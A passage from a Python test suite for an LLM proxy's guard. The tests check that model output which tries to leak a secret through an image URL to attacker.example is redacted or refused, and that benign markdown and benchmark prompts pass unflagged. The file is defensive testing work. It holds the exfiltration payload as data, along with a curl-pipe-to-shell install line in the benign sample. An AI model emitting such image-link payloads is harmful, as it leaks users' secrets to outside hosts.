    upstream: FakeUpstream, make_proxy: ProxyFactory, make_client: MakeClient
) -> None:
    args = json.dumps({"html": f'<img src="https://attacker.example/{SECRET}.gif">'})
    call = {"id": "call_1", "type": "function", "function": {"name": "render", "arguments": args}}
    upstream.enqueue(Reply(body=json_bytes(chat_completion(None, tool_calls=[call]))))
    client = make_client(await make_proxy())

    completion = await client.chat.completions.create(model="m", messages=USER)
    calls = completion.choices[0].message.tool_calls
    assert calls is not None
    assert json.loads(calls[0].function.arguments) == {"html": f'<img src="{GONE}">'}  # type: ignore[union-attr]


async def test_strict_policy_refuses_a_streamed_image(
    upstream: FakeUpstream, make_proxy: ProxyFactory, make_client: MakeClient
) -> None:
    upstream.enqueue(Reply(events=content_events(EXFIL)))
    client = make_client(await make_proxy(STRICT))
    stream = await client.chat.completions.create(model="m", messages=USER, stream=True)
    with pytest.raises(openai.APIError) as caught:
        async for _ in stream:
            pass
    assert "I'm sorry, but I can't help with that" in str(caught.value)


async def test_responses_non_stream_and_stream_redact_an_exfiltrating_image(
    upstream: FakeUpstream,
    make_proxy: ProxyFactory,
    make_client: MakeClient,
    tmp_path: Path,
) -> None:
    upstream.enqueue(
        Reply(body=json_bytes(chat_completion(EXFIL))), Reply(events=content_events(EXFIL))
    )
    server: RunningServer = await make_proxy(responses_db=str(tmp_path / "r.sqlite3"))
    client = make_client(server)

    response = await client.responses.create(model="m", input="summarize")
    assert response.output_text == EXPECTED

    texts = []
    async with client.responses.stream(model="m", input="summarize") as stream:
        async for event in stream:
            if event.type == "response.output_text.delta":
                texts.append(event.delta)
                assert SECRET[:4] not in event.delta
        final = await stream.get_final_response()
    assert "".join(texts) == EXPECTED == final.output_text


# -- benign traffic ---------------------------------------------------------------------------

ORDINARY_MARKDOWN = """\
# Setting up

1. Install Python from [python.org](https://www.python.org/downloads/).
2. Read [the tutorial](https://docs.python.org/3/tutorial/index.html "Tutorial") and
   <https://peps.python.org/pep-0008/>; see also www.example.com/faq.
3. Code: `curl -sSL https://install.python-poetry.org | python3 -`

| tool | link |
|---|---|
| ruff | [docs](https://docs.astral.sh/ruff/) |

<a href="https://github.com/astral-sh/ruff">GitHub</a> ![diagram](docs/diagram.png)
"""


def test_ordinary_markdown_with_links_has_no_finding_in_the_default_policy() -> None:
    assert labels(ORDINARY_MARKDOWN, DEFAULT) == []
    allowed = links_policy(
        links="redact",
        allow_hosts=[
            "*.python.org",
            "python.org",
            "install.python-poetry.org",
            "docs.astral.sh",
            "github.com",
            "www.example.com",
        ],
    )
    assert labels(ORDINARY_MARKDOWN, allowed) == []
    # chunked as a stream, too
    rng = random.Random(7)
    sizes = [rng.randint(1, 6) for _ in range(40)]
    body = sse(*deltas(ORDINARY_MARKDOWN, "content", sizes), chunk({}, finish_reason="stop"))
    out, guard = run(allowed, body)
    assert guard.state is GuardState.DONE and out == body


def benign_texts() -> list[str]:
    texts = []
    for name in ("mt_bench_question.jsonl", "vicuna_bench_question.jsonl"):
        for line in (EVAL / "benign" / name).read_text().splitlines():
            if line.strip():
                texts += json.loads(line)["turns"]
    with (EVAL / "xstest" / "xstest_prompts.csv").open(newline="") as f:
        texts += [row["prompt"] for row in csv.DictReader(f) if row["label"] == "safe"]
    for part in ("one", "two", "three"):
        texts += [
            row["prompt"]
            for row in json.loads((EVAL / "notinject" / f"NotInject_{part}.json").read_text())
        ]
    return texts


@pytest.mark.skipif(not EVAL.is_dir(), reason="../shared/eval is not there")
def test_the_benign_sets_have_no_link_finding_in_the_default_policy() -> None:
    links = [s for s in DEFAULT.output_shields if s.type_name == "links"]
    assert links
    texts = benign_texts()
    assert len(texts) > 500
    flagged = [t for t in texts if check_text(links, t)]
    assert flagged == []
